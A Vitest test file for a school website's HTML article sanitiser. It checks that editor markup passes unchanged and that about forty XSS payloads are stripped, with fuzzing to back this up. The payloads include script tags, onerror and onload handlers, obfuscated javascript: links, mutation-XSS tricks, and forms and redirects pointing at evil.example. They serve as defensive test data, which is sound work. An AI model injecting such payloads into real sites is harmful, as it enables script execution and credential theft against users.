import fc from 'fast-check';
import { expect, test } from 'vitest';
import { directedBlocks, directions } from './article-directions.ts';
import { nestingLimit, sanitiseArticle } from './sanitise-html.server.ts';

const editorOutput = [
  '<h2>Une rentrée réussie</h2><p>Texte <strong>gras</strong>, <em>italique</em>, <u>souligné</u>.<br />Suite</p>',
  '<ul><li><p>un</p></li></ul><ol><li>deux</li></ol><blockquote><p>« Citation »</p></blockquote>',
  '<p><a href="https://exemple.ma/a?b=1&amp;c=2" rel="noopener noreferrer">lien</a></p>',
  '<p><a href="mailto:ecole@exemple.ma">mail</a> <a href="tel:+212522000000">tél</a> <a href="/admissions">ici</a></p>',
  '<h3>Images</h3><img src="https://exemple.ma/a.jpg" alt="Élèves" /><img src="/files/content-images/blog/1.webp" alt="" />',
  '<table><tbody><tr><th colspan="2"><p>Classe</p></th></tr><tr><td rowspan="2"><p>CP</p></td><td><ul><li>un</li></ul></td></tr><tr></tr></tbody></table>',
  '<figure><img src="/files/content-images/blog/1.webp" alt="" role="presentation" /><figcaption>La cour</figcaption></figure>',
  '<figure><a href="/files/content-files/documents/1-0123456789abcdef.pdf">Menu &amp; goûters</a></figure>',
  '<p><a href="https://ecole.example/files/content-files/documents/1-0123456789abcdef.pdf" rel="noopener noreferrer">le menu</a></p>',
  '<figure><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ" rel="noopener noreferrer">La cour</a></figure>',
  '<table dir="rtl"><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
];

test.each(editorOutput)('the editor’s HTML passes unchanged: %s', (html) => {
  expect(sanitiseArticle(html)).toBe(html);
});

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="//evil.example/a.png">',
  '<img src="/files/../admin/logout">',
  '<img src="http://evil.example/a.png">',
  '<img src="/api/anything">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:/\\evil.example" onclick="alert(1)" style="position:fixed" target="_blank" class="x" id="x">x</a>',
  '<p style="background:url(javascript:alert(1))" onclick=alert(1)>x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<video><source onerror=alert(1)></video><audio src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<xss contenteditable onbeforeinput=alert(1)>x</xss>',
  '"><img src=x onerror=alert(1)>',
  '<img src="https://exemple.ma/a.jpg" alt="&quot; onerror=&quot;alert(1)">',
  '<plaintext><b onclick=alert(1)>x',
];

/** Tags and attributes in serialised, well-formed output, as a parser would find them. */
function tagsOf(html: string) {
  return Array.from(html.matchAll(/<\/?([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/gi), (match) => ({
    name: match[1] ?? '',
    attributes: Array.from((match[2] ?? '').matchAll(/([a-z-]+)="([^"]*)"/gi), (pair) => [pair[1], pair[2]]),
  }));
}

function expectHarmless(html: string) {
  const allowed =
    'p h2 h3 strong em u s sup sub span ul ol li blockquote a img br figure figcaption table thead tbody tr th td'.split(
      ' ',
    );
  const tags = tagsOf(html);
  // Every '<' belongs to a recognised tag.
  expect(html.split('<').length - 1).toBe(tags.length);
  for (const { name, attributes } of tags) {
    expect(allowed).toContain(name);
    for (const [attribute, value] of attributes) {
      if (name === 'img' && attribute === 'src')
        expect(value).toMatch(/^(https:\/\/[^/]|\/files\/(?!.*\.\.))/i);
      else if (name === 'a' && attribute === 'href') {
        expect(value).toMatch(/^(https?:\/\/[^\\]|mailto:|tel:|\/(?![/\\]))/i);
      } else if (/^t[hd]$/.test(name)) expect([attribute, value].join()).toMatch(/^(?:col|row)span,\d+$/);
      else if (name === 'img' && attribute === 'role') expect(value).toBe('presentation');
      else if (name === 'span') expect([attribute, value].join()).toMatch(/^(?:lang,(?:ar|en)|dir,rtl)$/);
      else if (attribute === 'dir') {
        expect(directedBlocks).toContain(name);
        expect(directions).toContain(value);
      } else expect([['img', 'alt'].join(), ['a', 'rel'].join()]).toContain([name, attribute].join());
    }
  }
}

test.each(attacks)('nothing dangerous is left of %j', (attack) => {
  expectHarmless(sanitiseArticle(attack));
  expectHarmless(sanitiseArticle(`<p>avant ${attack} après</p>`));
});

test('the words of an unknown element stay, the code of a script does not', () => {
  expect(sanitiseArticle('<div><h1>Titre</h1><span>mots</span></div>')).toBe('Titremots');
  expect(sanitiseArticle('<p>a<script>alert(1)</script><style>p{}</style>b</p>')).toBe('<p>ab</p>');
});

test('b and i become strong and em', () => {
  expect(sanitiseArticle('<p><b>x</b><i>y</i></p>')).toBe('<p><strong>x</strong><em>y</em></p>');
});

test('a link to nowhere keeps its words, an image from elsewhere goes', () => {
  expect(sanitiseArticle('<p><a href="javascript:x">mots</a><img src="http://a.example/b.png"></p>')).toBe(
    '<p>mots</p>',
  );
});

test('a link to another site gets rel, whatever it said', () => {
  expect(sanitiseArticle('<a href="https://a.example" rel="opener">x</a>')).toBe(
    '<a href="https://a.example" rel="noopener noreferrer">x</a>',
  );
});

test('it is idempotent and harmless on any mixture', () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks, ...editorOutput),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      '&lt;',
      '&amp;lt;',
      '<p',
      '</a>',
      '<a href="',
      '<!--',
      '-->',
      '<b>',
      '</p>',
      '<table>',
      '</table>',
      '<thead>',
      '<tr>',
      '</tr>',
      '<td colspan=2 rowspan=9999 onclick=alert(1)>',
      '<th style=x>',
      '<figure class=x>',
      '</figure>',
      '<figcaption>',
      '<img src=/files/a.png role=button>',
      '</td>',
      '<s>',
      '<del onclick=alert(1)>',
      '</del>',
      '<sup>',
      '<span lang=ar onclick=alert(1)>',
      '<span lang=xx>',
      '</span>',
      '<p dir=rtl>',
      '<li dir=up>',
    ),
    fc.string(),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
      const once = sanitiseArticle(pieces.join(''));
      expectHarmless(once);
      expect(sanitiseArticle(once)).toBe(once);
    }),
    { numRuns: 1000 },
  );
});

test.each([
  ['a cell outside of a table', '<td>a</td><tr><td>b</td></tr>', 'ab'],
  [
    'words between rows and cells',
    '<table>a<tr>b<td>c</td></tr></table>',
    '<table><tr><td>a</td></tr><tr><td>b</td><td>c</td></tr></table>',
  ],
  [
    'a table in a table',
    '<table><tr><td>a<table><tr><td>b</td></tr></table></td></tr></table>',
    '<table><tr><td>ab</td></tr></table>',
  ],
  ['a table in a list', '<ul><li><table><tr><td>a</td></tr></table></li></ul>', '<ul><li>a</li></ul>'],
  [
    'spans that no table has',
    '<table><tr><td colspan="21" rowspan="-1">a</td><td colspan="1e1" rowspan="02">b</td></tr></table>',
    '<table><tr><td>a</td><td colspan="10" rowspan="2">b</td></tr></table>',
  ],
])('%s: each part of a table is in its place', (_, html, clean) => {
  expect(sanitiseArticle(html)).toBe(clean);
});

test('a paragraph that a broken tag left open is closed before the next block, at once', () => {
  const html = '<p><scr<script>ipt>alert(1)</scr</script>ipt><h2>Titre</h2><p>Texte</p>';
  const once = sanitiseArticle(html);
  expect(sanitiseArticle(once)).toBe(once);
});

test('the editor’s deepest nesting passes unchanged, with all its marks', () => {
  const lists = 8;
  const marked = '<strong><em><u><a href="/contact">fond</a></u></em></strong>';
  const html = `${'<ul><li>'.repeat(lists)}<p>${marked}</p>${'</li></ul>'.repeat(lists)}`;
  expect(sanitiseArticle(html)).toBe(html);
});

test('nothing is nested deeper than the limit, and the words of what is stay', () => {
  const deep = 60;
  const clean = sanitiseArticle(
    `${'<blockquote>'.repeat(deep)}<p>au fond</p>${'</blockquote>'.repeat(deep)}<p>fin</p>`,
  );
  expect(clean.match(/<blockquote>/g)).toHaveLength(nestingLimit);
  expect(clean.match(/<\/blockquote>/g)).toHaveLength(nestingLimit);
  expect(clean).toContain('au fond');
  expect(clean).toMatch(/<p>fin<\/p>$/);
  expect(sanitiseArticle(clean)).toBe(clean);
});

test('control characters and half characters go, as from any other field', () => {
  expect(sanitiseArticle('<p>a\u0000b\u0007c\uD800\u202Ed</p>\r\n')).toBe('<p>abcd</p>\n');
});

test('a passage says Arabic or English, and nothing else; what is crossed out, raised and lowered stays so', () => {
  const passages =
    '<p><span lang="ar-MA">مرحبا</span> <span lang="EN" onclick="x()" style="color:red">Hi</span> <span lang="fr">Ici</span> <span class="x">là</span></p>';
  expect(sanitiseArticle(passages)).toBe(
    '<p><span lang="ar" dir="rtl">مرحبا</span> <span lang="en">Hi</span> Ici là</p>',
  );
  const marks = '<p>m<sup>2</sup> H<sub>2</sub>O <s>8 h</s> <del>9 h</del> <strike>10 h</strike></p>';
  expect(sanitiseArticle(marks)).toBe(
    '<p>m<sup>2</sup> H<sub>2</sub>O <s>8 h</s> <s>9 h</s> <s>10 h</s></p>',
  );
});
